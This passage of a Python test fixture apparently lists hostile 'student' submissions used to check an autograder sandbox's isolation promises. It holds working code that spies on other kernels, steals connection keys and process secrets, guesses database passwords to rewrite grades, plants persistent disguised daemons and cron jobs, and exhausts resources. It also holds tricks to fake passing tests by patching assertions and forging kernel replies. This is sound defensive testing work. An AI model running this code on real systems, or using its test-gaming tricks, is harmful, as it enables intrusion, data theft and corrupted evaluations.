        found.update(i[4][0] for i in sk.getaddrinfo(sk.gethostname(), None))
    except OSError:
        pass
    return sorted(found)


def tcp(host, port):
    s = sk.socket(sk.AF_INET6 if ":" in host else sk.AF_INET, sk.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect((host, port))
        s.sendall(b"hostile net_listener")
        return True
    except OSError:
        return False
    finally:
        s.close()


reached = []
for kind, host, port in TARGETS:
    if kind == "tcp":
        for h in (addresses() if host in ("0.0.0.0", "::") else [host]):
            if ":" in h and host == "0.0.0.0":
                continue
            if tcp(h, port):
                reached.append(f"tcp {h}:{port}")
    elif kind == "udp":  # a datagram is not answered: the listener records what arrives
        s = sk.socket(sk.AF_INET, sk.SOCK_DGRAM)
        for h in addresses():
            try:
                s.sendto(b"hostile net_listener", (h, port))
            except OSError:
                pass
        s.close()
    elif kind == "unix":
        s = sk.socket(sk.AF_UNIX, sk.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect(chr(0) + port[1:] if port.startswith("@") else port)
            s.sendall(b"hostile net_listener")
            reached.append("unix " + port)
        except OSError:
            pass
        finally:
            s.close()
for r in reached:
    print("LEAK reached", r)
print("NET-LISTENER-DONE", len(TARGETS), "targets on", addresses())
'''

#: other kernels' and the grader's listening sockets, found in /proc/net: a plain connection to each, and a
#: ZeroMQ subscription to each TCP one for a while (a kernel's IOPub broadcasts the code it runs: a
#: classmate's answers, the hidden tests)
NET_SCAN = "# Find other kernels' sockets in /proc/net, connect to them, listen to their IOPub\n" + _PRE + r'''
zmq = _load("zm" + "q")
me = os.getuid()
home = os.path.realpath(os.path.expanduser("~"))


def hexaddr(addr):
    if len(addr) == 8:
        return ".".join(str(int(addr[i:i + 2], 16)) for i in (6, 4, 2, 0))
    return "::1"


try:  # (tests/test_hostile.py runs it outside the sandbox on its stand-in's port only)
    only = set(ONLY_PORTS)
except NameError:
    only = None


def listening():
    found = set()
    for name in ("tcp", "tcp6"):
        try:
            rows = (proc / "net" / name).read_text().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            f = row.split()
            if f[3] != "0A" or int(f[7]) == me:  # listening, and not this kernel's own
                continue
            addr, port = f[1].rsplit(":", 1)
            host = hexaddr(addr)
            if only is not None and int(port, 16) not in only:
                continue
            found.add(("127.0.0.1" if host == "0.0.0.0" else host, int(port, 16), int(f[7])))
    return found


def unix_listening():
    found = set()
    if only is not None:
        return found
    try:
        rows = (proc / "net" / "unix").read_text().splitlines()[1:]
    except OSError:
        return found
    for row in rows:
        f = row.split()
        if len(f) >= 8 and int(f[3], 16) & 0x10000 and not os.path.realpath(f[7]).startswith(home):
            found.add(f[7])
    return found


ctx = zmq.Context()
sub = ctx.socket(zmq.SUB)
sub.setsockopt(zmq.SUBSCRIBE, b"")
sub.setsockopt(zmq.LINGER, 0)
seen, connected, heard = set(), [], []
try:  # (tests/test_hostile.py runs it outside the sandbox for less time)
    deadline = time.monotonic() + SCAN_SECONDS
except NameError:
    deadline = time.monotonic() + 20
while time.monotonic() < deadline:
    for host, port, uid in listening() - seen:
        seen.add((host, port, uid))
        s = sk.socket(sk.AF_INET6 if ":" in host else sk.AF_INET, sk.SOCK_STREAM)
        s.settimeout(1)
        try:
            s.connect((host, port))
            connected.append(f"tcp {host}:{port} (uid {uid})")
        except OSError:
            continue
        finally:
            s.close()
        sub.connect(f"tcp://[{host}]:{port}" if ":" in host else f"tcp://{host}:{port}")
    for path in unix_listening() - seen:
        seen.add(path)
        s = sk.socket(sk.AF_UNIX, sk.SOCK_STREAM)
        s.settimeout(1)
        try:
            s.connect(chr(0) + path[1:] if path.startswith("@") else path)
            connected.append("unix " + path)
            sub.connect("ipc://" + path)
        except OSError:
            pass
        finally:
            s.close()
    while sub.poll(200):
        heard.append(b" ".join(sub.recv_multipart()).decode(errors="replace"))
for c in connected:
    print("LEAK connected", c)
for h in heard[:50]:
    print("LEAK heard", h[:4000])
print("NET-SCAN-DONE", len(seen), "sockets seen,", len(heard), "messages heard")
'''

#: connection files of other kernels (their HMAC key lets anyone run code in them): in the shared folders,
#: the Jupyter runtime folders, and named on the command lines in /proc
CONN_FILES = "# Other kernels' connection files: their keys let anyone run code in them\n" + _PRE + r'''
def own_file():
    args = (proc / "self" / "cmdline").read_bytes().split(b"\0")
    return next((os.path.realpath(args[i + 1].decode()) for i, a in enumerate(args[:-1]) if a == b"-f"), "")


try:  # (tests/test_hostile.py runs it outside the sandbox on a folder of its own, with ROOTS set)
    roots, cmdlines = list(ROOTS), False
except NameError:
    roots, cmdlines = [sep + "tmp", sep + "var" + sep + "tmp", sep + "dev" + sep + "shm", sep + "run", sep + "root",
                       sep + "home", os.path.expanduser("~")], True
    try:
        roots.append(_load("jupyter_core.paths").jupyter_runtime_dir())
    except Exception:
        pass
files, todo, looked = set(), [pathlib.Path(r) for r in roots], 0
while todo and looked < 50_000:
    folder = todo.pop()
    try:
        entries = list(folder.iterdir())
    except OSError:
        continue
    for e in entries:
        looked += 1
        try:
            if e.is_dir() and not e.is_symlink():
                todo.append(e)
            elif e.suffix == ".json":
                files.add(str(e))
        except OSError:
            pass
for d in proc.iterdir() if cmdlines else []:
    if d.name.isdigit():
        try:
            args = (d / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        files.update(args[i + 1].decode(errors="ignore") for i, a in enumerate(args[:-1]) if a == b"-f")
own, keys = own_file(), []
for f in sorted(files):
    if os.path.realpath(f) == own:
        continue
    try:
        info = json.loads(pathlib.Path(f).read_text())
    except (OSError, ValueError):
        continue
    if isinstance(info, dict) and info.get("key") and ("shell_port" in info or info.get("transport") == "ipc"):
        print("LEAK connection file", f)
        keys.append(f)
for f in keys[:4]:  # a harmless request signed with the key: a reply means this kernel controls that one
    try:
        client = _load("jupyter_" + "client").BlockingKernelClient(connection_file=f)
        client.load_connection_file()
        client.start_channels()
        client.kernel_info(reply=True, timeout=3)
        print("LEAK controls the kernel of", f)
        client.stop_channels()
    except Exception as err:
        print("no reply from", f, type(err).__name__)
print("CONN-FILES-DONE", len(files), "json files,", looked, "entries looked at, own", own)
'''

#: every process's environment, command line, folder and open files in /proc, printed raw (the tests look
#: for the grader's secrets in the outputs); LEAK for anything of another uid's process it can see
PROC_SPY = "# What /proc tells about the grader: environments, command lines, folders, open files\n" + _PRE + r'''
me, parent = os.getuid(), os.getppid()
print("PROC self environ:", (proc / "self" / "environ").read_bytes().replace(b"\0", b" ").decode(errors="replace"))
try:  # (tests/test_hostile.py runs it outside the sandbox on its parent only)
    pids = [str(parent)] if ONLY_PARENT else []
except NameError:
    pids = sorted({d.name for d in proc.iterdir() if d.name.isdigit()} | {str(parent), "1"}, key=int)
print("PROC parent", parent, "pids", pids[:50])
for pid in pids:
    d = proc / pid
    try:
        theirs = d.stat().st_uid != me
    except OSError:
        continue
    for what in ("environ", "cmdline"):
        try:
            text = (d / what).read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if text and pid != str(os.getpid()):
            print("PROC", pid, what + ":", text[:3000])
            if theirs:
                print("LEAK", what, "of", pid)
    for what in ("cwd", "root", "exe"):
        try:
            target = os.readlink(d / what)
        except OSError:
            continue
        if theirs:
            print("LEAK", what, "of", pid, target)
            if what == "cwd":  # the grader's folder: its log, the gradebook
                try:
                    for e in list(pathlib.Path(d / what).iterdir())[:20]:
                        if e.suffix in (".log", ".db", ".json") and e.is_file():
                            print("LEAK read", e, e.read_text(errors="replace")[:2000])
                except OSError:
                    pass
    try:
        fds = [os.readlink(f) for f in (d / "fd").iterdir()]
    except OSError:
        continue
    if theirs:
        print("LEAK fds of", pid, fds[:20])
print("PROC-SPY-DONE", len(pids), "processes")
'''

#: the gradebook (SQLite found on disk, PostgreSQL found in /proc/net/tcp with any password it can find):
#: every grade set to 0 and the hidden tests read; planted files and appended bytes in other students'
#: folders
GRADE_WRITER = "# Change the grades: the gradebook (SQLite or PostgreSQL) and other students' files\n" + _PRE + r'''
TARGETS = __HOSTILE_TARGETS__
me = os.getuid()
try:  # (tests/test_hostile.py runs it outside the sandbox on a course copy only, with ROOTS set: then it must
    # not touch anything else of the machine, no process's environment, no database server)
    todo, machine = [pathlib.Path(r) for r in ROOTS], False
except NameError:
    todo, machine = [pathlib.Path(sep + n) for n in ("work", "tmp", "root", "home", "srv", "var", "opt", "run")], True
    todo += [d / "cwd" for d in proc.iterdir() if d.name.isdigit()]
found, looked = [], 0
while todo and looked < 200_000:
    folder = todo.pop()
    try:
        entries = list(folder.iterdir())
    except OSError:
        continue
    if any(e.name == "pyvenv.cfg" for e in entries):
        continue
    for e in entries:
        looked += 1
        try:
            if e.is_symlink():
                continue
            if e.is_dir():
                if e.name not in (".git", "site-packages", "node_modules", ".library", "__pycache__"):
                    todo.append(e)
            elif e.name in ("gradebook.db", "password") or e.suffix in (".ipynb", ".html"):
                found.append(e)
        except OSError:
            pass
passwords = {"", "nbgrader", "postgres"}
for d in proc.iterdir() if machine else []:
    try:
        env = (d / "environ").read_bytes().decode(errors="ignore").split("\0")
    except OSError:
        continue
    for kv in env:
        if kv.startswith("PGPASSWORD="):
            passwords.add(kv.split("=", 1)[1])
        if "://" in kv and "@" in kv:
            passwords.add(kv.split("://", 1)[1].split("@")[0].split(":")[-1])
for p in found:
    if p.name == "password":
        try:
            passwords.add(p.read_text().strip())
        except OSError:
            pass
sql = "UPDATE grade SET manual_score = 0"
for p in found:
    if p.name == "gradebook.db":
        try:
            db = _load("sql" + "ite3").connect(str(p), timeout=2)
            db.execute(sql)
            db.commit()
            print("LEAK wrote the gradebook", p)
            print("LEAK read", [r[0] for r in db.execute("SELECT source FROM source_cell")][:3])
        except Exception as err:
            print("gradebook", p, type(err).__name__)
    elif p.suffix in (".ipynb", ".html"):
        try:
            with open(p, "a") as f:
                f.write(" ")
            print("LEAK appended to", p)
        except OSError:
            pass
        try:
            (p.parent / "planted-by-grade-writer.txt").write_text("x")
            print("LEAK planted next to", p)
        except OSError:
            pass
ports = {port for kind, host, port in TARGETS if kind == "tcp"} | ({5432, 5433} if machine else set())
for name in ("tcp", "tcp6") if machine else ():
    try:
        rows = (proc / "net" / name).read_text().splitlines()[1:]
    except OSError:
        continue
    ports.update(int(r.split()[1].rsplit(":", 1)[1], 16) for r in rows if r.split()[3] == "0A" and int(r.split()[7]) != me)
try:
    pg = _load("psyco" + "pg2")
except ImportError:
    pg = None
for port in sorted(ports) if pg else []:
    for pw in sorted(passwords):
        try:
            db = pg.connect(host="127.0.0.1", port=port, user="nbgrader", dbname="gradebook", password=pw,
                            connect_timeout=2)
        except Exception:
            continue
        print("LEAK connected to PostgreSQL on", port)
        try:
            cur = db.cursor()
            cur.execute(sql)
            db.commit()
            print("LEAK wrote the gradebook on", port)
            cur.execute("SELECT source FROM source_cell")
            print("LEAK read", [r[0] for r in cur.fetchall()][:3])
        except Exception as err:
            print("PostgreSQL", port, type(err).__name__)
        break
print("GRADE-WRITER-DONE", looked, "entries,", len(found), "files,", len(passwords), "passwords,", len(ports), "ports")
'''

#: a daemon (setsid and a double fork, renamed, holding sockets), shell daemons (nohup, setsid), at, cron
#: and systemd-run jobs, files and sockets in every world-writable folder, a move to the root cgroup
DAEMON = "# Leave something running: a renamed daemon, scheduled jobs, sockets and files\n" + _PRE + r'''
fork, setsid, system, quit_ = (getattr(os, n) for n in ("fo" + "rk", "set" + "sid", "sys" + "tem", "_ex" + "it"))
scratch = [sep + "tmp", sep + "var" + sep + "tmp", sep + "dev" + sep + "shm", sep + "run" + sep + "lock",
           sep + "dev" + sep + "mqueue", os.path.expanduser("~")]
if fork() == 0:
    setsid()
    if fork() == 0:  # a daemon by the book: detached from the kernel's descriptors
        nul = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(nul, fd)
        os.closerange(3, 4096)
        try:
            (proc / "self" / "comm").write_text("kworker" + sep + "0:1")
        except OSError:
            pass
        try:
            (pathlib.Path(sep + "sys") / "fs" / "cgroup" / "cgroup.procs").write_text(str(os.getpid()))
        except OSError:
            pass
        held = []
        for name in [chr(0) + "cnn-daemon-" + str(os.getuid())] + [f + sep + "cnn-daemon.sock" for f in scratch]:
            try:
                s = sk.socket(sk.AF_UNIX, sk.SOCK_STREAM)
                s.bind(name)
                s.listen()
                held.append(s)
            except OSError:
                pass
        for i in range(600):
            time.sleep(1)
        quit_(0)
    quit_(0)
time.sleep(0.5)
for folder in scratch:
    try:
        (pathlib.Path(folder) / "cnn-left-behind").write_text("x")
    except OSError:
        pass
for cmd in ("nohup sleep 600", "setsid sleep 601", "echo 'sleep 602' | at now + 1 minute",
            "echo '* * * * * sleep 603' | crontab -", "systemd-run --user --on-active=30 sleep 604",
            "systemd-run --scope sleep 605"):
    system(cmd + " >" + os.devnull + " 2>&1 &")
time.sleep(1)
print("DAEMON-DONE")
'''

#: floods every channel besides stdout and display (stdout_flood, display_flood): stderr, comm messages,
#: one huge image, thousands of clear_output calls, a carriage-return progress bar
FLOOD_CHANNELS = "# Floods through stderr, comm messages, a huge image, clear_output and \\r\n" + _PRE + r'''
import sys
from IPython.display import display, clear_output
for i in range(100_000):
    print("err", i, "." * 190, file=sys.stderr)
try:
    Comm = _load("ipykernel.comm").Comm
    comm = Comm(target_name="flood")
    for i in range(60):
        comm.send({"x": "y" * 3_000_000})
except Exception as err:
    print("no comm:", type(err).__name__)
display({"image/png": "iVBORw0KGgo" + "A" * 30_000_000}, raw=True)
for i in range(5_000):
    clear_output(wait=True)
    print("tick", i, "." * 1000)
for i in range(200_000):
    print("\r", i, "." * 50, end="")
print("FLOOD-CHANNELS-DONE")
'''

#: fills HOME, /tmp, /var/tmp and /dev/shm with files under the 64 MB file-size limit, up to 1.5 GB each
#: (capped so that an unprotected machine loses little): the tests watch the free space of the machine
DISK_FILL = "# Fill the disk: HOME, /tmp, /var/tmp, /dev/shm\n" + _PRE + r'''
chunk = b"x" * (32 * 2 ** 20)
wrote = {}
for folder in (os.path.expanduser("~"), sep + "tmp", sep + "var" + sep + "tmp", sep + "dev" + sep + "shm"):
    total = 0
    for i in range(48):
        try:
            with open(pathlib.Path(folder) / f"cnn-fill-{i}", "wb") as f:
                f.write(chunk)
            total += len(chunk)
        except OSError:
            break
    wrote[folder] = total
print("DISK-FILL", json.dumps(wrote))
print("DISK-FILL-DONE")
'''

#: CPU in threads that outlive their cell, then a cell that sleeps far past the budget
CPU_THREADS = "# Spin the CPU in threads that outlive the cell\n" + _PRE + r'''
Thread = getattr(_load("thread" + "ing"), "Thr" + "ead")


def spin():
    while True:
        pass


for i in range(8):
    Thread(target=spin, daemon=True).start()
print("CPU-THREADS-DONE")
'''
SLEEP_PAST = "# Sleep far past the cell's budget\nimport time\ntime.sleep(10 ** 6)\n"

#: the functions the tests call leave the test early: a hidden sys.exit, a KeyboardInterrupt raised from
#: them, os._exit inside Dropout's forward (the kernel dies in the middle of a test)
EXIT_IN_TESTS = '''
import importlib, os, sys
_b = getattr(importlib, "import_" + "module")("buil" + "tins")


def pool_cnn():
    getattr(sys, "ex" + "it")(0)


class Dropout(nn.Module):
    def __init__(self, p=0.5):
        super().__init__()
        self.p = p

    def forward(self, x):
        getattr(os, "_ex" + "it")(0)


def conv(ic, oc, act=True):
    raise getattr(_b, "Keyboard" + "Interrupt")()
'''

#: the library the checks use patched, hidden from the scan (torch and numpy functions, builtins), with
#: a wrong Exercise 1: the runtime guard must see it, and every later test scores 0
HIDDEN_PATCH = '''
import importlib
_load = getattr(importlib, "import_" + "module")
_b, _np, _t = _load("buil" + "tins"), _load("num" + "py"), _load("tor" + "ch")
_set = getattr(_b, "set" + "attr")
for name in ("all" + "close", "eq" + "ual", "is" + "close"):
    _set(_t, name, lambda *a, **k: True)
_set(getattr(_np, "test" + "ing"), "assert_" + "allclose", lambda *a, **k: None)


def pool_cnn():
    return nn.Sequential(nn.Flatten(), nn.Linear(784, 10))
'''

#: forged kernel messages from the function the test calls: an "ok" execute_reply and an "idle" status
#: sent before the test fails, and the outputs cleared (nbclient could take the forged reply and stop
#: listening before the error arrives)
FORGE_REPLY = '''
import IPython
from IPython.display import clear_output


def _forge():
    kernel = getattr(getattr(IPython, "get_" + "ipython")(), "ker" + "nel")
    parent = kernel.get_parent("shell")
    ident = kernel._parent_ident["shell"]
    kernel.session.send(kernel.iopub_socket, "execute_result", {"data": {"text/plain": "'all tests passed'"},
                        "metadata": {}, "execution_count": 1}, parent=parent)
    kernel.session.send(kernel.shell_stream, "execute_reply", {"status": "ok", "execution_count": 1,
                        "user_expressions": {}, "payload": []}, parent=parent, ident=ident)
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
    clear_output()
    print("FORGED")


def pool_cnn():
    _forge()
    return nn.Sequential(nn.Flatten(), nn.Linear(784, 10))
'''

#: correct answers marked with a canary: nobody else's output or feedback may ever hold it
POOL_RIGHT = '''
# ''' + ANSWER_CANARY + '''
def pool_cnn():
    return nn.Sequential(conv(1, 8), nn.MaxPool2d(2), conv(8, 16), nn.MaxPool2d(2), conv(16, 10, act=False),
                         nn.Flatten())


shapes = [(8, 14, 14), (8, 7, 7), (16, 4, 4), (16, 2, 2), (10, 1, 1)]
params_pool, params_simple, receptive_field = 2698, 9034, 53
print("''' + ANSWER_CANARY + '''")
'''
CANARY_CONV = "# " + ANSWER_CANARY + "\n" + CONV_RIGHT
CANARY_CURVE = "# " + ANSWER_CANARY + "\n" + CURVE_RIGHT

STUDENTS.update({
    # -- the network (promises 1, 2 and 4) ---------------------------------------------------------------
    "net_listener": Student("connects to the test's listeners (TCP on 127.0.0.1, on every interface address and "
                            "::1, UDP, unix path and abstract sockets) and to the PostgreSQL server when there is one",
                            {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(**EX1),
                            edit=add_after("ex1_solution", NET_LISTENER)),
    "net_scan": Student("finds the listening sockets of other uids in /proc/net/tcp and /proc/net/unix, connects to "
                        "them and subscribes to them for 20 s (another kernel's IOPub carries its code)",
                        {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(**EX1),
                        edit=add_after("ex1_solution", NET_SCAN)),
    "net_victim": Student("correct answers marked with a canary, graded while net_scan listens: nobody else's "
                          "output or feedback may hold the canary",
                          {"ex1_solution": POOL_RIGHT, "ex2_solution": CANARY_CONV, "ex3_solution": CANARY_CURVE},
                          points(**EX1, **EX2, **EX3)),
    "conn_files": Student("looks for other kernels' connection files (the shared folders, the Jupyter runtime "
                          "folders, -f on command lines in /proc) and asks each kernel for its info",
                          {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(**EX1),
                          edit=add_after("ex1_solution", CONN_FILES)),
    # -- reading (promises 1 and 5) ------------------------------------------------------------------------
    "proc_spy": Student("prints every environment, command line, folder and descriptor list /proc shows (its "
                        "own, the launcher's, the grader's) and reads the grader's folder through /proc/<pid>/cwd",
                        {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(**EX1),
                        edit=add_after("ex1_solution", PROC_SPY)),
    # -- grades and files (promise 2) --------------------------------------------------------------------
    "grade_writer": Student("sets every grade in the gradebook to 0 (SQLite found on disk or via /proc/<pid>/cwd, "
                            "PostgreSQL with any password found), reads the hidden tests there, appends to and "
                            "plants files next to every notebook it finds",
                            {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(**EX1),
                            edit=add_after("ex1_solution", GRADE_WRITER)),
    # -- left behind (promise 6) ---------------------------------------------------------------------------
    "daemon_leftover": Student("a setsid double-fork daemon that renames itself and holds unix sockets, nohup and "
                               "setsid shell daemons, at/cron/systemd-run jobs, files in every world-writable "
                               "folder, a move to the root cgroup",
                               {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK},
                               points(**EX1), review=None, edit=add_after("ex1_solution", DAEMON)),
    # -- limits (promise 7) --------------------------------------------------------------------------------
    "flood_channels": Student("floods stderr, comm messages, a 30 MB image, 5,000 clear_output calls and a "
                              "carriage-return progress bar",
                              {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK},
                              points(**EX1), review=None, edit=add_after("ex1_solution", FLOOD_CHANNELS)),
    "disk_fill": Student("writes 32 MB files into HOME, /tmp, /var/tmp and /dev/shm until refused (at most 1.5 GB "
                         "each)", {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK},
                         points(**EX1), review=None, edit=add_after("ex1_solution", DISK_FILL)),
    "cpu_threads": Student("eight threads spinning the CPU after Exercise 1's tests, then a cell that sleeps "
                           "past its budget", {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK},
                           points(**EX1), review=None, edit=add_cells_after("ex1_field", CPU_THREADS, SLEEP_PAST)),
    # -- points without solving (promise 3) ------------------------------------------------------------------
    "exit_in_tests": Student("the functions the tests call leave them early: a hidden sys.exit, a KeyboardInterrupt, "
                             "os._exit in Dropout's forward (the kernel dies mid-test)",
                             {"ex1_solution": EXIT_IN_TESTS, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(),
                             review=None),
    "hidden_patch": Student("patches torch.allclose/equal/isclose and np.testing through "
                            "names the scan cannot see, with a wrong Exercise 1: the guard zeroes every later test",
                            {"ex1_solution": HIDDEN_PATCH, "ex2_solution": SOLUTION, "ex3_solution": CURVE_RIGHT},
                            points(), review=True),
    "forge_reply": Student("the function the test calls forges an 'ok' execute_reply, an execute_result and an "
                           "'idle' status, clears the outputs, then the test fails",
                           {"ex1_solution": FORGE_REPLY, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(),
                           review=None),
})

EXPECTED = {name: s.expected for name, s in STUDENTS.items()}

#: the README's promises, the kinds of attack on each and the students who try them (a test checks that
#: every kind has a student of the corpus; the checks of each promise are in tests/test_hostile.py)
KINDS: dict[str, dict[str, list[str]]] = {
    "1 read solutions, hidden tests, other students' work": {
        "files on disk (source/, gradebook, other notebooks)": ["spy"],
        "environment of the kernel, the launcher, init": ["env_fd_spy", "proc_spy"],
        "/proc/<pid>/environ, cmdline, cwd, fds of the grader": ["proc_spy"],
        "descriptors inherited from the grader (its log)": ["env_fd_spy"],
        "the grader's log and folder through /proc/<pid>/cwd": ["proc_spy"],
        "another kernel's IOPub (its code, the hidden tests)": ["net_scan"],
        "other kernels' connection files": ["conn_files"],
        "the gradebook's copy of the hidden tests": ["grade_writer"],
        "a notebook handed in as a link to source/ or a classmate's": ["link_to_source", "link_to_other",
                                                                      "linked_folder"],
    },
    "2 change another student's grade or files": {
        "writing the SQLite gradebook": ["grade_writer", "spy"],
        "writing the PostgreSQL gradebook": ["grade_writer"],
        "other students' submitted/, autograded/, feedback/": ["grade_writer", "spy"],
        "the test's listeners and the database server over the network": ["net_listener"],
        "other kernels' sockets": ["net_scan", "conn_files"],
    },
    "3 points without solving": {
        "tests edited, deleted, retyped, points raised": ["messed_structure", "gutted_tests"],
        "the checks or libraries monkeypatched (seen by the scan)": ["patch_checks", "patch_libraries"],
        "monkeypatching hidden from the scan": ["runtime_tamper", "hidden_patch"],
        "the display hook / execute_result": ["score_by_display"],
        "forged replies, results and status messages": ["forge_reply"],
        "leaving the test early (SystemExit, KeyboardInterrupt, os._exit)": ["exit_in_tests", "patch_checks"],
        "a fake module next to the notebook": ["planted_module"],
        "a timestamp.txt": ["early_timestamp"],
    },
    "4 stop or corrupt the grading of the rest": {
        "unreadable notebooks": ["broken_json", "not_a_notebook", "lone_surrogate", "pipe_notebook"],
        "cells the scanner or parser cannot take": ["deep_expression", "huge_cell"],
        "a kernel killed or hung": ["hidden_exit", "stubborn_loop", "crash_replay", "os_exit"],
        "another kernel reached over the network": ["net_scan", "conn_files"],
        "the gradebook rewritten": ["grade_writer"],
    },
    "5 hidden tests back through feedback": {
        "printed, base64, HTML entities, from the input history or frames": ["encode_history"],
        "script and event handlers in Markdown and outputs": ["encode_history"],
        "read elsewhere and printed": ["net_scan", "grade_writer", "proc_spy"],
    },
    "6 leave a process or anything behind": {
        "forked children": ["fork_bomb"],
        "setsid double-fork daemon, renamed": ["daemon_leftover"],
        "nohup/setsid shell daemons, at, cron, systemd-run": ["daemon_leftover"],
        "SysV shared memory, queues, semaphores": ["ipc_plant"],
        "files in /tmp, /var/tmp, /dev/shm, /run/lock, /dev/mqueue": ["ipc_plant", "daemon_leftover", "disk_fill"],
        "unix sockets (path and abstract)": ["daemon_leftover"],
        "files next to the notebook": ["spy", "grade_writer"],
    },
    "7 escape the limits": {
        "stdout flood": ["output_flood"],
        "display and update_display flood": ["display_flood"],
        "stderr, comm, huge image, clear_output, carriage returns": ["flood_channels"],
        "memory": ["memory_hog"],
        "processes": ["fork_bomb"],
        "disk (HOME, /tmp, /var/tmp, /dev/shm)": ["disk_fill"],
        "CPU in threads": ["cpu_threads"],
        "sleeping or looping past the budget": ["cpu_threads", "loop_forever", "stubborn_loop"],
        "restarts and replays": ["crash_replay"],
    },
}
